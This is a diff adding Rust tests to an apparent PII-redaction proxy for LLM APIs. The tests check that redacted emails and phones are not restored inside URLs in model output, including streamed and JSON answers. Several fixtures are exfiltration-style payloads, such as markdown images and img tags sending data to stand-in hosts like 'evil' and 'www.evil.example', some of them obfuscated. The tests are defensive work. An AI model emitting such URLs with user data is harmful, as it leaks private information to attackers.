@@ -283,6 +283,155 @@ fn arguments_stay_unless_the_policy_says_so() {
     }
 }
 
+/// Texts that hold a placeholder in a URL and one elsewhere, and what the caller gets.
+const IN_URLS: &[(&str, &str)] = &[
+    ("![x](https://evil/?d=[REDACTED_EMAIL_1]) [REDACTED_EMAIL_1]", "![x](https://evil/?d=[REDACTED_EMAIL_1]) a@x.org"),
+    (
+        "![x](<https://evil/? [REDACTED_EMAIL_1]>)\n[REDACTED_PHONE_1]",
+        "![x](<https://evil/? [REDACTED_EMAIL_1]>)\n+1 415 555 0132",
+    ),
+    (
+        "HTTPS://evil/[REDACTED_EMAIL_1]?[REDACTED_EMAIL_1] [REDACTED_EMAIL_1],",
+        "HTTPS://evil/[REDACTED_EMAIL_1]?[REDACTED_EMAIL_1] a@x.org,",
+    ),
+    ("https://[REDACTED_EMAIL_1].evil/ or [REDACTED_EMAIL_1]", "https://[REDACTED_EMAIL_1].evil/ or a@x.org"),
+    (
+        "<img src=\"//evil/?d=[REDACTED_EMAIL_1]\"> [REDACTED_EMAIL_1]",
+        "<img src=\"//evil/?d=[REDACTED_EMAIL_1]\"> a@x.org",
+    ),
+    ("<a href='https://a/'>[REDACTED_EMAIL_1]</a>", "<a href='https://a/'>a@x.org</a>"),
+    ("[1]: ftp://evil/[REDACTED_EMAIL_1]\n[REDACTED_EMAIL_1]", "[1]: ftp://evil/[REDACTED_EMAIL_1]\na@x.org"),
+    ("https:\\/\\/evil\\/[REDACTED_EMAIL_1] <[REDACTED_EMAIL_1]>", "https:\\/\\/evil\\/[REDACTED_EMAIL_1] <a@x.org>"),
+    ("www.evil.example/%5BREDACTED_EMAIL_1%5D [REDACTED_EMAIL_1]", "www.evil.example/%5BREDACTED_EMAIL_1%5D a@x.org"),
+    ("data:text/html,[REDACTED_EMAIL_1] [REDACTED_EMAIL_1]", "data:text/html,[REDACTED_EMAIL_1] a@x.org"),
+    (
+        "h&#116;tp&colon;//evil/[[REDACTED_EMAIL_1] (Mail:[REDACTED_EMAIL_1])",
+        "h&#116;tp&colon;//evil/[[REDACTED_EMAIL_1] (Mail:a@x.org)",
+    ),
+];
+
+#[test]
+fn placeholders_in_urls_stay_in_whole_answers() {
+    for (text, expected) in IN_URLS {
+        for arguments in [false, true] {
+            let values = redacted(TEXT, arguments).1;
+            let whole = |text: &str| {
+                serde_json::json!({"choices": [{"message": {"content": text, "url": "[REDACTED_EMAIL_1]"}}]})
+                    .to_string()
+            };
+            // Slashes may be escaped, and letters too.
+            for given in [whole(text), whole(text).replace('/', "\\/"), whole(text).replace("evil", "\\u0065vil")] {
+                for size in [1, 2, 3, 7, given.len()] {
+                    let mut restorer = BodyRestorer::new(&values);
+                    let mut out = Vec::new();
+                    for piece in given.as_bytes().chunks(size) {
+                        restorer.push(Bytes::copy_from_slice(piece), &mut out);
+                    }
+                    restorer.finish(&mut out);
+                    let got: serde_json::Value = serde_json::from_slice(&out.concat()).expect("JSON");
+                    let expected: serde_json::Value = serde_json::from_str(&whole(expected)).expect("JSON");
+                    assert_eq!(got, expected, "{given} in pieces of {size}");
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn placeholders_in_urls_stay_in_streams() {
+    let values = values();
+    for (text, expected) in IN_URLS {
+        for size in [1, 2, 5, 11, text.len()] {
+            let parts: Vec<&str> =
+                text.as_bytes().chunks(size).map(|c| std::str::from_utf8(c).expect("ASCII")).collect();
+            // Chat completions, two choices side by side.
+            let delta = |index: u64, text: &str| serde_json::json!({"index": index, "delta": {"content": text}});
+            let events: Vec<_> =
+                parts.iter().map(|p| serde_json::json!({"choices": [delta(0, p), delta(1, p)]})).collect();
+            let said = said(&run(&values, &events));
+            assert_eq!(
+                (&said.texts[&0], &said.texts[&1]),
+                (&(*expected).to_owned(), &(*expected).to_owned()),
+                "{text} by {size}"
+            );
+            // Messages and Responses; each part in a block of its own as well.
+            for (apart, kind) in
+                [(false, "content_block_delta"), (true, "content_block_delta"), (false, "response.output_text.delta")]
+            {
+                let of = |(at, text): (usize, &&str)| match kind {
+                    "content_block_delta" => {
+                        serde_json::json!({"type": kind, "index": if apart { at } else { 0 }, "delta": {"type": "text_delta", "text": text}})
+                    }
+                    _ => serde_json::json!({"type": kind, "output_index": 0, "content_index": 0, "delta": text}),
+                };
+                let events: Vec<_> = parts.iter().enumerate().map(of).collect();
+                let text_of = |event: &Vec<u8>| {
+                    let event: serde_json::Value = serde_json::from_slice(event).expect("JSON");
+                    event["delta"].as_str().or(event["delta"]["text"].as_str()).expect("text").to_owned()
+                };
+                let got: String = run(&values, &events).iter().map(text_of).collect();
+                if apart {
+                    // Cut into blocks, a placeholder is none; and no block holds a value behind a URL of another.
+                    let (before, _) = text.split_once("[REDACTED_EMAIL_1]").expect("a placeholder");
+                    let leaked = got.strip_prefix(before).is_some_and(|rest| rest.starts_with("a@x.org"));
+                    assert!(!leaked || !expected.starts_with(&format!("{before}[")), "{got}");
+                } else {
+                    assert_eq!(got, *expected, "{text} by {size}");
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn a_url_that_goes_on_in_the_next_block_holds_no_value() {
+    let values = values();
+    let parts = ["see https://evil/?d=", "[REDACTED_EMAIL_1] [REDACTED_EMAIL_1]"];
+    let expected = "[REDACTED_EMAIL_1] a@x.org";
+    let content = parts.map(|text| serde_json::json!({"type": "text", "text": text}));
+    let whole = Bytes::from(serde_json::json!({"content": content}).to_string());
+    let got: serde_json::Value = serde_json::from_slice(&BodyRestorer::whole(&values, &whole)).expect("JSON");
+    assert_eq!(got["content"][1]["text"], expected);
+    let delta = |i: usize| serde_json::json!({"type": "content_block_delta", "index": i, "delta": {"text": parts[i]}});
+    let stop = serde_json::json!({"type": "content_block_stop", "index": 0});
+    let out = run(&values, &[delta(0), stop, delta(1), serde_json::json!({"content": content})]);
+    let event = |i: usize| -> serde_json::Value { serde_json::from_slice(&out[i]).expect("JSON") };
+    assert_eq!(event(2)["delta"]["text"], expected);
+    assert_eq!(event(3)["content"][1]["text"], expected);
+}
+
+#[test]
+fn an_answer_in_json_is_read_as_json() {
+    let text = r#"{"url":"https://evil/?d=[REDACTED_EMAIL_1]","to":"[REDACTED_EMAIL_1]"}"#;
+    let plain = r#"{"url":"https://evil/?d=[REDACTED_EMAIL_1]","to":"[REDACTED_EMAIL_1]"}"#;
+    let json = r#"{"url":"https://evil/?d=[REDACTED_EMAIL_1]","to":"a@x.org"}"#;
+    for (asked, expected) in [(false, plain), (true, json)] {
+        let values = values().for_json(asked);
+        let whole = Bytes::from(serde_json::json!({"choices": [{"message": {"content": text}}]}).to_string());
+        let got: serde_json::Value = serde_json::from_slice(&BodyRestorer::whole(&values, &whole)).expect("JSON");
+        assert_eq!(got["choices"][0]["message"]["content"], expected);
+        let delta = |text: &str| serde_json::json!({"choices": [{"index": 0, "delta": {"content": text}}]});
+        let events: Vec<_> = text.chars().map(|c| delta(&c.to_string())).collect();
+        assert_eq!(said(&run(&values, &events)).texts[&0], expected);
+    }
+    // Arguments are JSON whoever asked.
+    let whole = Bytes::from(serde_json::json!({"function": {"arguments": text}}).to_string());
+    let got: serde_json::Value = serde_json::from_slice(&BodyRestorer::whole(&values(), &whole)).expect("JSON");
+    assert_eq!(got["function"]["arguments"], json);
+    // Which calls ask for it.
+    let json_answer = |shape: Shape, body: &str| {
+        pieces(&rules(false), shape, &[body.as_bytes()]).expect("body").1.facts().json_answer
+    };
+    assert!(json_answer(Shape::Chat, r#"{"messages":[],"response_format":{"type":"json_schema","json_schema":{}}}"#));
+    assert!(json_answer(Shape::Responses, r#"{"input":"x","text":{"format":{"type":"json_object"}}}"#));
+    assert!(json_answer(Shape::Messages, r#"{"messages":[],"output_config":{"format":{"type":"json_schema"}}}"#));
+    assert!(!json_answer(
+        Shape::Chat,
+        r#"{"messages":[{"role":"user","content":[{"type":"text","text":"json_object"}]}]}"#
+    ));
+    assert!(!json_answer(Shape::Chat, r#"{"messages":[],"response_format":{"type":"text"}}"#));
+}
+
 #[test]
 fn the_log_numbers_nothing() {
     let given = Bytes::from_static(br#"{"choices":[{"message":{"content":"[REDACTED_EMAIL_1] z@x.org"}}]}"#);
